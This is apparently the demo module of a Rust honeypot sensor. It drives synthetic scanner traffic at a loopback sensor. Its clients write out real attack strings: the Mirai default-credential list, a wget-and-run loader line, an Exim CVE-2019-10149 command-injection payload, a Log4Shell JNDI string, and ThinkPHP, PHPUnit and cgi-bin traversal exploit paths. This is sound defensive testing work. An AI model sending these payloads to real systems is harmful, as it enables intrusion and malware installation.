//! `honeyport demo`: a newcomer's first look. Starts a sensor with the built-in default
//! config on loopback (free ports, no rejection delays), drives a short synthetic scanner mix
//! at it from many loopback source addresses (telnet brute forcing by Mirai-style bots, SSH
//! password probes, an SMTP probe and an Exim exploit, HTTP scans with exploit paths, silent
//! port scans), stops it, and explains the busiest port.
//!
//! Everything stays on 127.0.0.0/8: the sources are 127.x.y.z addresses the demo binds to.
//! URLs the bots ask for are recorded, never fetched (downloads are off in the default config).

use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Context;
use honeyport_event::Transport;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

/// Longest wait for any one answer from the sensor.
const WAIT: Duration = Duration::from_secs(10);

/// The default config, on free loopback ports, without the brute-force pacing delays (so the
/// demo is quick), under sensor name `demo`.
pub fn config() -> anyhow::Result<crate::config::Config> {
    let mut doc: toml_edit::DocumentMut = crate::config::DEFAULT_CONFIG
        .parse()
        .context("the built-in config")?;
    doc["sensor"] = toml_edit::value("demo");
    if let Some(ls) = doc
        .get_mut("listeners")
        .and_then(|l| l.as_array_of_tables_mut())
    {
        for l in ls.iter_mut() {
            l["ports"] = toml_edit::value(0);
        }
    }
    for p in ["busybox", "openssh"] {
        if let Some(t) = doc
            .get_mut("personas")
            .and_then(|ps| ps.get_mut(p))
            .and_then(|t| t.as_table_mut())
        {
            t["fail_delay"] = toml_edit::value("0s");
        }
    }
    let v = crate::config::validate_str(&doc.to_string(), "<demo config>", Path::new("."))
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    v.build().map_err(|e| anyhow::anyhow!("{e}"))
}

/// A loopback source address: 127.`net`.`host / 256`.`host % 256`.
fn source(net: u8, host: u16) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(127, net, (host >> 8) as u8, host as u8))
}

async fn connect_from(src: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let s = TcpSocket::new_v4()?;
    s.bind(SocketAddr::new(src, 0))?;
    tokio::time::timeout(WAIT, s.connect(to))
        .await
        .map_err(|_| std::io::Error::from(std::io::ErrorKind::TimedOut))?
}

/// Reads until `needle` (or the peer closes, or WAIT), answering telnet negotiation the way
/// Mirai does: DO -> WONT, except DO NAWS -> WILL NAWS and an 80x24 window; WILL -> DO.
async fn until(s: &mut TcpStream, needle: &[u8], telnet: bool) -> std::io::Result<Vec<u8>> {
    let mut seen = Vec::new();
    let mut buf = [0u8; 2048];
    let deadline = tokio::time::Instant::now() + WAIT;
    while !seen.windows(needle.len()).any(|w| w == needle) {
        let n = match tokio::time::timeout_at(deadline, s.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 => n,
            _ => break,
        };
        let mut i = 0;
        while i < n {
            if telnet && buf[i] == 0xff && i + 2 < n {
                let (cmd, opt) = (buf[i + 1], buf[i + 2]);
                let answer: &[u8] = match (cmd, opt) {
                    (0xfd, 31) => &[0xff, 0xfb, 31, 0xff, 0xfa, 31, 0, 80, 0, 24, 0xff, 0xf0],
                    (0xfd, o) => &[0xff, 0xfc, o],
                    (0xfb, o) => &[0xff, 0xfd, o],
                    _ => &[],
                };
                s.write_all(answer).await?;
                i += 3;
            } else {
                seen.push(buf[i]);
                i += 1;
            }
        }
    }
    Ok(seen)
}

/// Mirai's first dictionary entries: what the bots try, one pair per connection.
const PAIRS: &[(&str, &str)] = &[
    ("root", "xc3511"),
    ("root", "vizxv"),
    ("admin", "admin"),
    ("root", "admin"),
    ("root", "888888"),
    ("root", "xmhdipc"),
    ("root", "default"),
    ("root", "juantech"),
    ("root", "123456"),
    ("support", "support"),
];

/// One Mirai-style bot connection: negotiation, one credential, and if let in, the
/// busybox check and a loader line.
async fn telnet_bot(src: IpAddr, to: SocketAddr, pair: (&str, &str)) -> std::io::Result<()> {
    let mut s = connect_from(src, to).await?;
    until(&mut s, b"login: ", true).await?;
    s.write_all(format!("{}\r\n", pair.0).as_bytes()).await?;
    until(&mut s, b"Password: ", true).await?;
    s.write_all(format!("{}\r\n", pair.1).as_bytes()).await?;
    let got = until(&mut s, b"# ", true).await?;
    if !got.ends_with(b"# ") {
        return Ok(()); // refused: the next connection tries the next pair
    }
    for cmd in ["enable", "system", "shell", "sh", "/bin/busybox ECCHI"] {
        s.write_all(format!("{cmd}\r\n").as_bytes()).await?;
        until(&mut s, b"# ", true).await?;
    }
    s.write_all(
        b"cd /tmp || cd /var/run; wget http://203.0.113.7/bins/mirai.arm7 -O .x; chmod 777 .x; ./.x telnet.arm7\r\n",
    )
    .await?;
    until(&mut s, b"# ", true).await?;
    Ok(())
}

struct SshProbe;

impl russh::client::Handler for SshProbe {
    type Error = russh::Error;

    async fn check_server_key(
        &mut self,
        _key: &russh::keys::PublicKeyOrCertificate,
    ) -> Result<bool, Self::Error> {
        Ok(true)
    }
}

/// An SSH password probe: a few passwords for root, then gone.
async fn ssh_probe(src: IpAddr, to: SocketAddr, n: usize) -> anyhow::Result<()> {
    let tcp = connect_from(src, to).await?;
    let cfg = Arc::new(russh::client::Config {
        inactivity_timeout: Some(WAIT),
        ..Default::default()
    });
    let mut h = tokio::time::timeout(WAIT, russh::client::connect_stream(cfg, tcp, SshProbe))
        .await
        .context("ssh handshake timed out")??;
    for pw in ["123456", "password", "root"]
        .iter()
        .cycle()
        .skip(n % 3)
        .take(2)
    {
        let r = tokio::time::timeout(WAIT, h.authenticate_password("root", *pw))
            .await
            .context("ssh auth timed out")??;
        if r.success() {
            break;
        }
    }
    let _ = h.disconnect(russh::Disconnect::ByApplication, "", "").await;
    Ok(())
}

/// An SMTP dialogue: banner, EHLO, and with `exploit`, Exim's CVE-2019-10149 shape.
async fn smtp_probe(src: IpAddr, to: SocketAddr, exploit: bool) -> std::io::Result<()> {
    let mut s = connect_from(src, to).await?;
    until(&mut s, b"\r\n", false).await?;
    s.write_all(b"EHLO scanner.example\r\n").await?;
    until(&mut s, b"250 ", false).await?;
    if exploit {
        s.write_all(b"MAIL FROM:<>\r\n").await?;
        until(&mut s, b"\r\n", false).await?;
        s.write_all(
            b"RCPT TO:<${run{\\x2fbin\\x2fsh\\t-c\\t\\x22wget\\x20http\\x3a\\x2f\\x2f203.0.113.9\\x2fx\\x22}}@localhost>\r\n",
        )
        .await?;
        until(&mut s, b"\r\n", false).await?;
    }
    s.write_all(b"QUIT\r\n").await?;
    until(&mut s, b"221", false).await?;
    Ok(())
}

/// One HTTP request, read to the end of the response head.
async fn http_get(src: IpAddr, to: SocketAddr, target: &str, agent: &str) -> std::io::Result<()> {
    let mut s = connect_from(src, to).await?;
    let req = format!(
        "GET {target} HTTP/1.1\r\nHost: {to}\r\nUser-Agent: {agent}\r\nAccept: */*\r\nConnection: close\r\n\r\n"
    );
    s.write_all(req.as_bytes()).await?;
    until(&mut s, b"\r\n\r\n", false).await?;
    Ok(())
}

/// What the mix did, for the summary line.
#[derive(Debug, Default)]
pub struct Mix {
    pub telnet: usize,
    pub ssh: usize,
    pub smtp: usize,
    pub http: usize,
    pub silent: usize,
    /// Client connections that failed (should be none).
    pub errors: usize,
}

/// Drives the scanner mix at a running sensor's listeners.
pub async fn drive(running: &crate::app::Running) -> anyhow::Result<Mix> {
    let addr = |l: &str| {
        running
            .addr(l, Transport::Tcp)
            .with_context(|| format!("the default config has no {l} listener"))
    };
    let (telnet, ssh, smtp, http, ftp) = (
        addr("telnet")?,
        addr("ssh")?,
        addr("smtp")?,
        addr("http")?,
        addr("ftp")?,
    );
    let mut mix = Mix::default();
    let mut tasks = tokio::task::JoinSet::new();
    // 40 bots trying one pair per connection: ten persistent brute forcers (twelve pairs
    // each, enough to be tagged `brute_force`), thirty that give up after two.
    for bot in 0..40u16 {
        tasks.spawn(async move {
            let src = source(1, bot + 1);
            let mut ok = 0;
            let mut bad = 0;
            let tries = if bot < 10 { 12 } else { 2 };
            for k in 0..tries {
                let pair = PAIRS[(usize::from(bot) + k * 3) % PAIRS.len()];
                match telnet_bot(src, telnet, pair).await {
                    Ok(()) => ok += 1,
                    Err(_) => bad += 1,
                }
            }
            ("telnet", ok, bad)
        });
    }
    for n in 0..6usize {
        tasks.spawn(async move {
            match ssh_probe(source(2, n as u16 + 1), ssh, n).await {
                Ok(()) => ("ssh", 1, 0),
                Err(_) => ("ssh", 0, 1),
            }
        });
    }
    for n in 0..2u16 {
        tasks.spawn(async move {
            match smtp_probe(source(3, n + 1), smtp, n == 1).await {
                Ok(()) => ("smtp", 1, 0),
                Err(_) => ("smtp", 0, 1),
            }
        });
    }
    let scans: &[(&str, &str)] = &[
        ("/", "Mozilla/5.0 zgrab/0.x"),
        ("/.env", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"),
        (
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
            "Mozilla/5.0",
        ),
        ("/", "${jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/d2dldA==}"),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "python-requests/2.31.0"),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "curl/8.5.0"),
    ];
    for (n, (target, agent)) in scans.iter().enumerate() {
        let (target, agent) = (target.to_string(), agent.to_string());
        tasks.spawn(async move {
            match http_get(source(4, n as u16 + 1), http, &target, &agent).await {
                Ok(()) => ("http", 1, 0),
                Err(_) => ("http", 0, 1),
            }
        });
    }
    // A port scanner: connects to every port and leaves without a word.
    for (n, to) in [telnet, ssh, smtp, http, ftp].into_iter().enumerate() {
        tasks.spawn(async move {
            match connect_from(source(5, n as u16 + 1), to).await {
                Ok(s) => {
                    drop(s);
                    ("silent", 1, 0)
                }
                Err(_) => ("silent", 0, 1),
            }
        });
    }
    while let Some(r) = tasks.join_next().await {
        let (what, ok, bad) = r.context("a demo client panicked")?;
        mix.errors += bad;
        match what {
            "telnet" => mix.telnet += ok,
            "ssh" => mix.ssh += ok,
            "smtp" => mix.smtp += ok,
            "http" => mix.http += ok,
            _ => mix.silent += ok,
        }
    }
    Ok(mix)
}

/// The whole demo: start, drive, stop, explain the busiest port into `out`.
pub async fn run(data_dir: &Path, out: &mut (dyn Write + Send)) -> anyhow::Result<()> {
    let started = std::time::Instant::now();
    let cfg = config()?;
    let running = crate::app::start(cfg, data_dir)
        .await
        .context("starting the demo sensor")?;
    writeln!(
        out,
        "honeyport demo: a sensor with the default config on loopback, store in {}",
        data_dir.display()
    )?;
    for b in &running.bound {
        writeln!(out, "  {} {} ({})", b.transport, b.addr, b.persona)?;
    }
    let mix = drive(&running).await;
    let report = running.stop().await;
    let mix = mix?;
    writeln!(
        out,
        "drove {} telnet bot connections, {} SSH probes, {} SMTP probes, {} HTTP scans, {} silent connects ({} failed); {} sessions, {} events stored, {} lost\n",
        mix.telnet,
        mix.ssh,
        mix.smtp,
        mix.http,
        mix.silent,
        mix.errors,
        report.serve.sessions,
        report.pipeline.written,
        report.lost()
    )?;
    let c = crate::report::cli::open(&crate::store::Location::Sqlite(data_dir.to_path_buf()))?;
    let c = &*c;
    let fleet = crate::store::Scope::Fleet;
    let day = crate::report::latest_day(c, fleet)?.unwrap_or_else(crate::report::today);
    let top = crate::report::top_ports(
        c,
        fleet,
        crate::report::Window::day(day),
        crate::report::By::Records,
        1,
    )?;
    let Some(busiest) = top.first() else {
        anyhow::bail!("the demo stored no sessions");
    };
    let e = crate::report::explain::explain(
        c,
        busiest.port,
        fleet,
        crate::report::Window::day(day),
        2,
        None,
    )?;
    write!(out, "{}", crate::report::explain::render(&e))?;
    writeln!(
        out,
        "\n(demo took {:.1} s) Explore the same store:\n  honeyport --data-dir {d} report top-ports\n  honeyport --data-dir {d} explain {}\n  honeyport --data-dir {d} report sessions --port {}\n  honeyport --data-dir {d} events --port {} --limit 20",
        started.elapsed().as_secs_f64(),
        busiest.port,
        busiest.port,
        busiest.port,
        d = data_dir.display(),
    )?;
    Ok(())
}
